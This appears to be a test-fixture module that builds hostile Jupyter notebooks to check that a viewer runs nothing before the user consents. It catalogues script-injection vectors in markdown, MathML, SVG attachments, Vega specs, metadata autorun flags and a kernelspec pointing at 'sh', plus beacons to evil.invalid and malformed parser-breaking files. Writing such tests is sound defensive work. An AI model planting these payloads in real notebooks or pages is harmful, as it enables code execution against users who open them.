"""Hostile notebooks: each tries to run before anybody has said yes."""

import base64
import json
from typing import Any

from attack import IMAGE, IN_ATTRIBUTE, PYTHON, SCRIPT, SVG, commands, stored_models

START = (
    '<button data-commandlinker-command="notebook:run-all-cells" '
    'data-commandlinker-args="{}">▶ Start</button>'
)
_VIEW = {"application/vnd.jupyter.widget-view+json": {"model_id": "shown"}}


def text(words: str, **more: Any) -> dict:
    """Make a cell of text."""
    return {"cell_type": "markdown", "id": "a", "metadata": {}, "source": words, **more}


def code(*bundles: dict, metadata: dict | None = None) -> dict:
    """Make a cell of code with these results stored; running it trips the wire."""
    outputs = [
        {"output_type": "display_data", "metadata": {"isolated": True}, "data": bundle}
        for bundle in bundles
    ]
    return {
        "cell_type": "code",
        "id": "b",
        "execution_count": 1,
        "metadata": {"trusted": True, **(metadata or {})},
        "source": PYTHON,
        "outputs": outputs,
    }


def page(*cells: dict, **metadata: Any) -> dict:
    """Make a notebook that begins like a lesson."""
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    metadata = {"kernelspec": kernel} | metadata
    cells = (text(f"# A page\n\n{START}"), *cells, code())
    numbered = [cell | {"id": f"cell-{n}"} for n, cell in enumerate(cells)]
    return {"cells": numbered, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}


def _outputs() -> dict:
    html = f"<script>{SCRIPT}</script>{IMAGE}"
    script = {"application/javascript": SCRIPT}
    both = {"text/html": html, "text/plain": "7", **script}
    return page(code({"text/html": html}, script, both), code({"text/markdown": html}))


def _markdown() -> dict:
    away = "//evil.invalid"
    kinds = (
        f"<script>{SCRIPT}</script>",
        IMAGE,
        f'<iframe srcdoc="<script>parent.tripped=1</script>" onload="{IN_ATTRIBUTE}">',
        f'<details open ontoggle="{IN_ATTRIBUTE}"><summary>more</summary></details>',
        f'<input autofocus onfocus="{IN_ATTRIBUTE}">',
        f'<video><source onerror="{IN_ATTRIBUTE}"></video>',
        '<object data="evil.html"></object><embed src="evil.html">',
        f'<meta http-equiv="refresh" content="0;url=evil.html"><base href="{away}/">',
        f"<style>@import url('{away}/a.css'); .steel-whose {{ display: none }}</style>",
        f'<p style="position: fixed; inset: 0; background: url({away}/b.png)">over</p>',
        f'<link rel="stylesheet" href="{away}/c.css">',
        "[press](javascript:window.tripped=1) <a href=' javascript:tripped=1'>it</a>",
        f"![beacon](http:{away}/d.png) <img src='/logout'>",
    )
    return page(*map(text, kinds))


def _mathml() -> dict:
    hidden = f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMAGE}'>"
    return page(
        text(f"<math><annotation-xml encoding='text/html'>{IMAGE}</annotation-xml></math>"),
        text("<math xlink:href='javascript:window.tripped=1'><mi>x</mi></math>"),
        text(hidden),
        text(r"$\href{javascript:window.tripped=1}{x}$ $\style{x:expression(1)}{y}$"),
        text(rf"$\text{{{IMAGE}}}$ $\require{{http://evil.invalid/e.js}}$"),
        text(
            f'```mermaid\ngraph TD; A["{IMAGE.replace(chr(34), "")}"]; click A tripped\n```'
        ),
    )


def _attachments() -> dict:
    svg = base64.b64encode(SVG.encode()).decode()
    held = {
        "a.svg": {"image/svg+xml": svg},
        "b.html": {"text/html": base64.b64encode(IMAGE.encode()).decode()},
        "c.png": {"image/png": f'x" onerror="{SCRIPT}'},
    }
    words = "![a](attachment:a.svg) ![b](attachment:b.html) ![c](attachment:c.png)"
    inline = f"![d](data:image/svg+xml;base64,{svg}) <img src='evil.svg'>"
    return page(text(words, attachments=held), text(inline))


def _metadata() -> dict:
    metadata = {
        "autorun": True,
        "init_cell": True,
        "run_through_control": {"frozen": False},
        "trusted": True,
        "signature": "sha256:0",
        "steel": "own",
        "title": IMAGE,
        "authors": [{"name": IMAGE}],
        "kernelspec": {"name": "../../evil", "display_name": IMAGE, "argv": ["sh"]},
        "language_info": {"name": IMAGE, "codemirror_mode": {"name": IMAGE}, "mimetype": 7},
    }
    marks = {"init_cell": True, "autorun": True, "tags": ["autorun", IMAGE], "steel": "own"}
    return page(code(metadata=marks), text(IMAGE, metadata=marks), **metadata)


def _raw() -> dict:
    kinds = ("text/html", "text/javascript", "application/javascript", "image/svg+xml")
    cells = [
        {"cell_type": "raw", "metadata": {"format": kind, "raw_mimetype": kind}}
        | {"source": IMAGE + f"<script>{SCRIPT}</script>", "id": "c"}
        for kind in kinds
    ]
    return page(*cells)


def _vega() -> dict:
    spec = {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "data": [{"name": "a", "url": "http://evil.invalid/f.json"}],
        "signals": [{"name": "b", "init": "event.view.constructor('tripped=1')()"}],
        "marks": [
            {"type": "image", "encode": {"enter": {"url": {"value": "//evil.invalid"}}}}
        ],
    }
    return page(code({"application/vnd.vega.v5+json": spec}, {"application/json": spec}))


def _old() -> dict:
    heading = {"cell_type": "heading", "level": 1, "metadata": {}, "source": "An old page"}
    outputs = [
        {"output_type": "display_data", "metadata": {}, "javascript": SCRIPT},
        {"output_type": "pyout", "prompt_number": 1, "metadata": {}, "html": IMAGE},
    ]
    run = {"cell_type": "code", "language": "python", "input": PYTHON, "collapsed": False}
    run |= {"metadata": {"trusted": True}, "prompt_number": 1, "outputs": outputs}
    sheet = {"cells": [heading, run, text(IMAGE)], "metadata": {}}
    metadata = {"name": "old", "signature": "sha256:0", "widgets": stored_models()}
    return {"worksheets": [sheet], "metadata": metadata, "nbformat": 3, "nbformat_minor": 0}


def _large() -> dict:
    deep = text(">" * 3000 + " deep\n\n" + "[" * 20_000 + "**_" * 3000)
    return page(deep, text("steel " * 400_000), code({"text/plain": "7" * 2_000_000}))


def _other(number: int) -> dict:
    return page(text(IMAGE)) | {"nbformat": number}


PAGES = {
    "stored_models": page(widgets=stored_models()),
    "stored_views": page(code(_VIEW), widgets=stored_models()),
    "outputs": _outputs(),
    "markdown": _markdown(),
    "svg": page(code({"image/svg+xml": SVG}), text(SVG)),
    "mathml": _mathml(),
    "attachments": _attachments(),
    "metadata": _metadata(),
    "raw": _raw(),
    "vega": _vega(),
    "old_format": _old(),
    "commands": page(text(commands()), code()),
    "large": _large(),
    "ünï\u202e \u2603 " + "n" * 150: page(text(IMAGE)),
}
# No notebooks, whatever their names say: a sentence, and nothing else.
BROKEN = {
    "format_5": json.dumps(_other(5)).encode(),
    "format_huge": json.dumps(_other(10**30)).encode(),
    "utf_16": json.dumps(page()).encode("utf-16"),
    "latin_1": json.dumps(page()).replace("A page", "Stück").encode("latin-1"),
    "half_letter": json.dumps(page(text("\ud800"))).encode(),
    "no_letters": b"\0" * 100_000,
    "brackets": b"[" * 1_000_000,
    "digits": b'{"nbformat": ' + b"9" * 200_000 + b"}",
    "cells_no_list": json.dumps(page() | {"cells": {"a": IMAGE}}).encode(),
    "metadata_no_table": json.dumps(page() | {"metadata": [IMAGE]}).encode(),
}
